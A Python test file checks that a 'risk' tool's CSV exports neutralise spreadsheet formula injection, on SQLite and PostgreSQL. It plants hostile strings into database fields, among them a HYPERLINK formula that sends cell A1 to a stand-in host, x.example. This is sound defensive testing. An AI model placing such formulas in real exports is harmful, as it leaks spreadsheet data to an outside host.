"""Every CSV the `risk` command writes, read back as a spreadsheet reads it: delivered or typed text that a
spreadsheet would run (=, +, -, @, a tab or CR first) has a quote in front, numbers are plain numbers. On SQLite
and PostgreSQL."""
from __future__ import annotations

import csv
import io
import json
import re
from datetime import date

import pytest
import tinycity
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import delete, select

from risk import spreadsheet
from risk.alerts import lifecycle as workflow
from risk.cli import main
from risk.db import gateway
from risk.db.tables import alert, alert_event, delivery_file, quality_issue, recovery, score, supervisor

HOSTILE = '=HYPERLINK("http://x.example/?q="&A1,"点此")'


def live(value: str) -> bool:
    """Would a spreadsheet run this cell?"""
    return value != "" and value[0] in spreadsheet.TRIGGERS and re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", value) is None


def read(text: str) -> list[list[str]]:
    """The rows as a spreadsheet splits them: a CR, LF or CRLF outside quotes ends a row."""
    return list(csv.reader(io.StringIO(text, newline="")))


def exports(url: str, capsys) -> dict[str, list[list[str]]]:
    """What each CSV export of the command line writes, parsed."""
    commands = {
        "alerts export": ["alerts", "export"], "alerts list": ["alerts", "list", "--user", "city"],
        "quality export": ["quality", "export"], "quality ledger": ["quality", "ledger"],
        "scores export": ["scores", "export"], "alerts history": ["alerts", "history", "a-hostile"],
        "alerts ledger": ["alerts", "ledger", "--user", "city"], "users list": ["users", "list"],
    }
    out = {}
    for name, args in commands.items():
        main([*args, "--db", url])
        out[name] = read(capsys.readouterr().out)
    return out


def plant(url: str, text: str) -> None:
    """`text` wherever delivered or typed text reaches an export: an alert's person and village, a rejected
    row's key, reason, file and field, a file's name, a score's person, model and feature, an audit comment, a
    recovery's reason, a user's login."""
    with gateway.transaction(url) as conn:
        conn.execute(delete(recovery).where(recovery.c.alert_id == "a-hostile"))
        conn.execute(delete(alert_event).where(alert_event.c.alert_id == "a-hostile"))
        conn.execute(delete(alert).where(alert.c.alert_id == "a-hostile"))
        for table in (quality_issue, delivery_file, score):
            conn.execute(delete(table))
        conn.execute(delete(supervisor).where(supervisor.c.user_id.not_in(list(tinycity.USERS))))
        conn.execute(alert.insert().values(
            alert_id="a-hostile", rule="deceased_payment", rule_version=1, person_id=text[:18],
            village_code=tinycity.VILLAGES["v1"], severity="high", score=0.5, amount_at_risk_cents=1250,
            first_seen="2026-01-05", last_changed="2026-01-05", status="confirmed", evidence_count=1,
            evidence=json.dumps([{"fact": "payment", "detail": text}], ensure_ascii=False)))
        conn.execute(quality_issue.insert().values(source="regions", delivery_day="2026-01-05", file_name=text,
                                                   line=2, record_key=text, kind="row", field=text, reason=text))
        conn.execute(delivery_file.insert().values(delivery_day="2026-01-05", source="payments", file_name=text,
                                                   rows_read=0, rejected_whole=False, load_ms=0, warnings="[]"))
        conn.execute(score.insert().values(person_id=text[:18], as_of=date(2026, 1, 5), model_version=text[:40],
                                           score=0.25, rank=1, top_features=json.dumps([{"feature": text}])))
        conn.execute(supervisor.insert().values(user_id=text, name="x", role="village", region_code="431102001009",
                                                **tinycity.PROVENANCE))
        workflow.log_event(conn, "a-hostile", "city", "snooze", "confirmed", "confirmed", text)
        workflow.record_recovery(conn, "city", "a-hostile", "5.00", date(2026, 1, 6), "bank_return")
        first = conn.execute(select(recovery.c.id).where(recovery.c.alert_id == "a-hostile")).scalar()
        workflow.reverse_recovery(conn, "city", "a-hostile", first, text)
        workflow.record_recovery(conn, "city", "a-hostile", "20.00", date(2026, 1, 7), "bank_return", reason=text)


def check(found: dict[str, list[list[str]]], text: str) -> None:
    for name, rows in found.items():
        assert rows, name
        for row in rows:
            assert not any(live(v) for v in row), (name, row)
    neutral = spreadsheet.cell(text)
    # the planted text, as delivered or with a quote in front, where a person reads it
    assert any(neutral in row for row in found["quality export"])
    assert any(neutral in row for row in found["quality ledger"])
    assert any(neutral in row for row in found["alerts history"])
    assert any(spreadsheet.cell(text.strip()) in row for row in found["alerts ledger"])  # a reason is trimmed
    assert any(neutral in row for row in found["users list"])
    assert any(spreadsheet.cell(text[:18]) in row for row in found["alerts export"])
    # numbers stay numbers: the amounts of the alert and the ledger, a negative one too, without a quote
    alerts_rows = [dict(zip(found["alerts export"][0], r, strict=True)) for r in found["alerts export"][1:]]
    assert "12.50" in {r["amount_at_risk"] for r in alerts_rows}
    ledger = [dict(zip(found["alerts ledger"][0], r, strict=True)) for r in found["alerts ledger"][1:]]
    mine = [r for r in ledger if r["alert_id"] == "a-hostile"]
    assert [r["amount"] for r in mine] == ["5.00", "-5.00", "20.00"]
    assert [r["remaining"] for r in mine] == ["7.50", "12.50", "-7.50"]
    scores = [dict(zip(found["scores export"][0], r, strict=True)) for r in found["scores export"][1:]]
    assert [r["score"] for r in scores] == ["0.250000"]


@pytest.fixture
def city(db_url, tmp_path, monkeypatch):
    monkeypatch.setenv("RISK_VAR_DIR", str(tmp_path / "var"))
    tinycity.build(db_url)
    return db_url


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1",
                                  "甲村\r=1+1"])
def test_every_csv_the_command_writes_has_no_live_formula(city, capsys, text):
    plant(city, text)
    check(exports(city, capsys), text)


# random text, with the triggers and line breaks well represented (PostgreSQL takes no NUL in text)
_CHARS = st.characters(codec="utf-8", exclude_characters="\x00")  # what a database stores
_text = st.one_of(
    st.text(_CHARS, min_size=1, max_size=20),
    st.builds(lambda t, rest: t + rest, st.sampled_from(list(spreadsheet.TRIGGERS)),
              st.text(_CHARS, max_size=20)),
    st.builds(lambda a, b: a + "\r" + b, st.text(_CHARS, max_size=5),
              st.sampled_from(["=1+1", "+1", "@A1", "-2+3"])),
).filter(lambda t: t.strip() != "" and t not in tinycity.USERS)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=_text)
def test_no_cell_of_any_command_line_export_is_a_live_formula(city, capsys, text):
    plant(city, text)
    check(exports(city, capsys), text)
